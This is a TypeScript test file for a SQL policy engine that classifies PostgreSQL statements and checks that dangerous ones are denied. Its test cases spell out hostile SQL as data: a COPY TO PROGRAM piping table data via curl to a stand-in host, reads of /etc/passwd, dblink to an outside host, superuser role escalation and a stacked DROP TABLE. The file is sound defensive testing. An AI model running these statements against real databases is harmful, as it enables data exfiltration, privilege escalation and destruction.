/**
 * Policy over real SQL: the classifier (PostgreSQL's parser) and the evaluator together, so that a change in
 * what the classifier reports for a dangerous construct shows up here as a policy regression.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { evaluate, type PolicyDecision } from '../../../src/policy/evaluate.js';
import { classify } from '../../../src/sql/classify.js';
import { loadParser } from '../../../src/sql/parser.js';
import { ctx, policy } from './helpers.js';

const POLICY = policy({
  rules: [
    {
      name: 'ci-readonly',
      match: { groups: ['ci'] },
      allow: ['read', 'transaction', 'session', 'utility'],
      review: ['write'],
      deny: ['ddl'],
      tables: { 'public.customers': 'deny' },
    },
    { name: 'ops', match: { groups: ['ops'] }, allow: ['read', 'write', 'ddl', 'admin', 'session', 'transaction', 'copy_in', 'copy_out', 'utility'] },
    { name: 'reporter', match: { identities: ['reporter'] }, allow: ['read', 'transaction', 'session'], limits: { readOnly: true, statementTimeoutMs: 10_000 } },
  ],
});

function decide(sql: string, who: 'ci' | 'ops' | 'reporter'): PolicyDecision {
  const c = classify(sql);
  if (!c.ok) throw new Error(`classifier refused ${sql}: ${c.message}`);
  const identity = who === 'reporter' ? ctx({ name: 'reporter', groups: [] }) : ctx({ name: `${who}-bot`, groups: [who] });
  return evaluate(POLICY, identity, c.statements);
}

beforeAll(async () => {
  await loadParser();
});

describe('policy over classified SQL', () => {
  it('decides by class and table', () => {
    expect(decide('SELECT id FROM orders WHERE id = 1', 'ci')).toMatchObject({ decision: 'allow', rule: 'ci-readonly' });
    expect(decide('select * from PUBLIC.Customers', 'ci')).toMatchObject({ decision: 'deny', object: 'public.customers', rule: 'ci-readonly' });
    expect(decide('SELECT * FROM customers', 'ci')).toMatchObject({ decision: 'deny', object: 'customers' });
    expect(decide('DELETE FROM orders', 'ci')).toMatchObject({ decision: 'review', class: 'write', object: 'orders' });
    expect(decide('SELECT 1; DROP TABLE orders', 'ci')).toMatchObject({ decision: 'deny', statementIndex: 1, class: 'ddl' });
    expect(decide('WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', 'ci')).toMatchObject({ decision: 'review', class: 'write' });
  });

  it('decides PREPARE and DECLARE on what they wrap', () => {
    expect(decide('PREPARE p AS DELETE FROM orders', 'ci')).toMatchObject({ decision: 'review', class: 'write' });
    expect(decide('DECLARE c CURSOR FOR SELECT * FROM customers', 'ci')).toMatchObject({ decision: 'deny', object: 'customers' });
  });

  it.each([
    ["SELECT pg_catalog.pg_read_file('/etc/passwd')", 'builtin:file-access'],
    ["SELECT lo_export(1, '/tmp/x')", 'builtin:file-access'],
    ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", 'builtin:network-access'],
    ['SELECT pg_terminate_backend(123)', 'builtin:backend-signals'],
    ['SELECT pg_reload_conf()', 'builtin:server-control'],
    ["COPY orders TO PROGRAM 'curl -d @- evil'", 'builtin:copy-program'],
    ["COPY orders FROM '/etc/passwd'", 'builtin:copy-server-files'],
    ['SET ROLE postgres', 'builtin:role-switch'],
    ['SET SESSION AUTHORIZATION postgres', 'builtin:role-switch'],
    ["SELECT set_config('role', 'postgres', false)", 'builtin:role-switch'],
    ['CREATE ROLE x SUPERUSER', 'builtin:role-management'],
    ['ALTER USER ops WITH SUPERUSER', 'builtin:role-management'],
    ["ALTER SYSTEM SET work_mem = '1GB'", 'builtin:alter-system'],
    ["LOAD 'evil'", 'builtin:load'],
    ["SET NAMES 'LATIN1'", 'builtin:pinned-settings'],
    ['SET standard_conforming_strings = off', 'builtin:pinned-settings'],
    ['SELECT set_config($1, $2, false)', 'builtin:pinned-settings'],
    ['DO $$ BEGIN PERFORM 1; END $$', 'builtin:hidden-sql'],
    ["CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", 'builtin:hidden-sql'],
    ["SELECT query_to_xml('SELECT 1', true, true, '')", 'builtin:hidden-sql'],
  ])('refuses %s for an identity allowed every class (%s)', (sql, rule) => {
    expect(decide(sql, 'ops')).toMatchObject({ decision: 'deny', rule });
  });

  it('lets ordinary operations through for ops', () => {
    for (const sql of ['COPY orders TO STDOUT', 'VACUUM orders', 'SET search_path = public', 'DISCARD ALL', 'BEGIN; UPDATE orders SET id = id; COMMIT']) {
      expect(decide(sql, 'ops'), sql).toMatchObject({ decision: 'allow', rule: 'ops' });
    }
  });

  it('keeps a read-only session read-only and under its timeout ceiling', () => {
    expect(decide('SELECT 1', 'reporter')).toMatchObject({ decision: 'allow' });
    expect(decide('BEGIN READ WRITE', 'reporter')).toMatchObject({ decision: 'deny', rule: 'reporter' });
    expect(decide('SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'reporter')).toMatchObject({ decision: 'deny', rule: 'reporter' });
    expect(decide('SELECT * INTO copy FROM orders', 'reporter')).toMatchObject({ decision: 'deny', rule: 'reporter' });
    expect(decide("SET statement_timeout = '5s'", 'reporter')).toMatchObject({ decision: 'allow' });
    expect(decide('SET statement_timeout = 0', 'reporter')).toMatchObject({ decision: 'deny', rule: 'reporter' });
    expect(decide("SELECT set_config('statement_timeout', $1, false)", 'reporter')).toMatchObject({ decision: 'deny', rule: 'reporter' });
  });
});
